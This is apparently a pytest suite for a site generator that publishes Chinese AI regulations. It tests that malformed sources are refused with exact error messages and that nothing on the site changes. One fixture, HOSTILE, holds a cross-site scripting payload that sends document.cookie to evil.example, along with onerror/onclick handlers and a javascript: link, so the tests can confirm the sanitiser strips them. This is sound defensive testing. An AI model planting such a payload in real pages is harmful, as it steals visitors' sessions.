"""Bad input loses nothing: an exact message naming file and line, non-zero exit where the
site cannot be correct, the previous site untouched, no editor file modified."""

from __future__ import annotations

import hashlib
import subprocess
import sys
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from generator.site.build import build_site
from tests.conftest import SHANGHAI, SHENZHEN, make_project_copy

F000 = "000_3465b8d92afdb780.txt"
F003 = "003_fb396ab0a1b6b464.txt"
F004 = "004_9f1126a30e32ca71.txt"


@pytest.fixture(scope="module")
def built_template(tmp_path_factory):
    root = make_project_copy(tmp_path_factory.mktemp("bad") / "p")
    build_site(root)
    return root


@pytest.fixture
def root(built_template, tmp_path):
    import shutil
    dest = tmp_path / "p"
    shutil.copytree(built_template, dest, symlinks=True)
    return dest


def snapshot(root: Path) -> dict:
    files = list((root / "site").rglob("*.html")) + list((root / "annotations").rglob("*"))
    return {p: p.read_bytes() for p in files if p.is_file()}


def replace_source(root: Path, name: str, raw: bytes) -> None:
    """Put new bytes in a raw source and record their checksum, as an editor would."""
    path = root / "source" / name
    old = hashlib.sha256(path.read_bytes()).hexdigest()
    path.write_bytes(raw)
    manifest = root / "source" / "manifest.yaml"
    manifest.write_text(manifest.read_text(encoding="utf-8").replace(old, hashlib.sha256(raw).hexdigest()),
                        encoding="utf-8")


def build(root: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "generator", "--root", str(root), "build"],
                          capture_output=True, text=True)


def assert_refused(root: Path, before: dict, message: str) -> None:
    out = build(root)
    assert out.returncode == 1, out.stderr
    assert message in out.stderr.splitlines(), out.stderr
    assert out.stderr.rstrip().endswith("nothing was written and site/ is unchanged")
    assert snapshot(root) == before


def test_source_in_gbk(root):
    before = snapshot(root)
    text = (root / "source" / F000).read_text(encoding="utf-8")
    replace_source(root, F000, text.encode("gb18030"))
    assert_refused(root, before,
                   f"source/{F000}:2: error: the source file is not valid UTF-8 (byte 0xC9 at line 2) — "
                   "the file looks like GBK/GB18030 (Simplified Chinese): convert it with `iconv -f GB18030 -t UTF-8`")


def test_source_with_bom_is_read_and_reported(root):
    replace_source(root, F003, b"\xef\xbb\xbf" + (root / "source" / F003).read_bytes())
    out = build(root)
    assert out.returncode == 0, out.stderr
    out = subprocess.run([sys.executable, "-m", "generator", "--root", str(root), "check", "-v"],
                         capture_output=True, text=True)
    assert (f"source/{F003}:1: warning: the file starts with a UTF-8 byte-order mark (BOM); it was ignored — "
            "harmless, but most tools expect UTF-8 without BOM") in out.stderr.splitlines()


def _zh(root: Path, rel: str) -> str:
    soup = BeautifulSoup((root / "site" / rel / "index.html").read_text(encoding="utf-8"), "html.parser")
    return "|".join(el.get_text() for el in soup.select(".article-text .seg.zh"))


def test_crlf_line_ends_give_the_same_text(root):
    before = {n: _zh(root, f"{SHANGHAI}/article-{n}") for n in (1, 13, 29, 31)}
    raw = (root / "source" / F004).read_bytes()
    replace_source(root, F004, raw.replace(b"\n", b"\r\n"))
    out = build(root)
    assert out.returncode == 0, out.stderr
    assert {n: _zh(root, f"{SHANGHAI}/article-{n}") for n in before} == before


def test_truncated_authoritative_copy(root):
    before = snapshot(root)
    raw = (root / "source" / F003).read_bytes()
    cut = raw.index("第五十条".encode())
    replace_source(root, F003, raw[:cut])
    lines = (root / "source" / "manifest.yaml").read_text(encoding="utf-8").splitlines()
    line = lines.index("      - id: statute", lines.index(f"  - file: {F003}")) + 1
    assert_refused(root, before,
                   f"source/manifest.yaml:{line}: error: part {F003}#statute: end marker '本条例自2022年11月1日起施行。' "
                   "not found after its start — copy the marker text exactly from the raw file")


def test_file_truncated_inside_a_character(root):
    before = snapshot(root)
    raw = (root / "source" / F000).read_bytes()
    replace_source(root, F000, raw[:raw.index("第二条".encode()) + 1])
    assert_refused(root, before,
                   f"source/{F000}:8: error: the source file is not valid UTF-8 (byte 0xE7 at line 8) — "
                   "save the file as UTF-8")


def test_two_articles_with_the_same_number(root):
    before = snapshot(root)
    raw = (root / "source" / F004).read_bytes()
    replace_source(root, F004, raw.replace("第三条 (适用范围)".encode(), "第二条 (适用范围)".encode()))
    assert_refused(root, before,
                   f"source/{F004}:31: error: article 2 appears twice (first at line 27) — "
                   "remove the duplicate or correct its number in the source copy")


def test_article_number_out_of_sequence(root):
    before = snapshot(root)
    raw = (root / "source" / F004).read_bytes()
    raw = raw.replace("第三条 (适用范围)".encode(), "第X条 (适用范围)".encode())
    raw = raw.replace("第四条 (发展原则与目的)".encode(), "第三条 (发展原则与目的)".encode())
    raw = raw.replace("第X条 (适用范围)".encode(), "第四条 (适用范围)".encode())
    replace_source(root, F004, raw)
    assert_refused(root, before,
                   f"source/{F004}:35: error: article 3 is out of sequence: it comes after article 4 — "
                   "correct the article number in the source copy")


def test_manifest_pointing_at_a_missing_file(root):
    before = snapshot(root)
    manifest = root / "source" / "manifest.yaml"
    text = manifest.read_text(encoding="utf-8")
    manifest.write_text(text.replace(f"file: {F000}", "file: 000_gone.txt"), encoding="utf-8")
    line = text.splitlines().index(f"  - file: {F000}") + 1
    assert_refused(root, before,
                   f"source/manifest.yaml:{line}: error: source file 'source/000_gone.txt' does not exist — "
                   "copy the raw file into source/ byte for byte, or correct the file name")


HOSTILE = """<html><body>
<p>《条例》第四十四条允许低风险人工智能产品先行先试。</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p><img src="https://evil.example/pixel.png" onerror="alert(1)">据报道，深圳将设立伦理委员会。</p>
<p><a href="javascript:alert(2)" onclick="steal()">详情</a>见第六十五条。</p>
</body></html>
"""


def test_commentary_page_with_scripts_handlers_javascript_links_and_remote_images(root):
    (root / "source" / "005_hostile.html").write_text(HOSTILE, encoding="utf-8")
    digest = hashlib.sha256(HOSTILE.encode()).hexdigest()
    manifest = root / "source" / "manifest.yaml"
    text = manifest.read_text(encoding="utf-8")
    text = text.replace("\nsources:\n", """
  hostile-report:
    kind: news
    statute: shenzhen-ai-2022
    title: 被篡改的报道
    publisher: 某网站
    date: 2022-09-07

sources:
""", 1)
    text += f"""
  - file: 005_hostile.html
    sha256: {digest}
    format: html
    parts:
      - id: report
        kind: news
        document: hostile-report
        statute: shenzhen-ai-2022
        language: zh-Hans
        title: 被篡改的报道
"""
    manifest.write_text(text, encoding="utf-8")
    out = build(root)
    assert out.returncode == 0, out.stderr      # the site can be correct: only text is kept
    out = subprocess.run([sys.executable, "-m", "generator", "--root", str(root), "check", "-v"],
                         capture_output=True, text=True)
    lines = out.stderr.splitlines()
    for expected in (
            "source/005_hostile.html:3: warning: removed <script> element: executable content is never published",
            "source/005_hostile.html:4: warning: removed event handler onerror= on <img>",
            "source/005_hostile.html:4: warning: removed remote resource <img src=\"https://evil.example/pixel.png\">: "
            "the site never loads anything from another host",
            "source/005_hostile.html:5: warning: removed javascript: URL in <a href>; only the link text is kept",
            "source/005_hostile.html:5: warning: removed event handler onclick= on <a>"):
        assert expected in lines, (expected, out.stderr)
    site = root / "site"
    pages = [p.read_text(encoding="utf-8") for p in site.rglob("*.html")]
    doc_page = (site / "commentary" / "hostile-report" / "index.html").read_text(encoding="utf-8")
    assert "据报道，深圳将设立伦理委员会。" in doc_page
    for page in pages:
        soup = BeautifulSoup(page, "html.parser")
        for tag in soup.find_all(True):
            for attr, value in tag.attrs.items():
                value = " ".join(value) if isinstance(value, list) else str(value)
                assert "evil.example" not in value and not value.lower().startswith("javascript:"), tag
                assert not (attr.startswith("on") and ("alert" in value or "steal" in value)), tag
        for script in soup.find_all("script"):
            assert "evil.example" not in script.get_text() and "steal()" not in script.get_text()
    a44 = (site / SHENZHEN / "article-44" / "index.html").read_text(encoding="utf-8")
    assert "被篡改的报道" in a44                       # linked (through its citation), as text
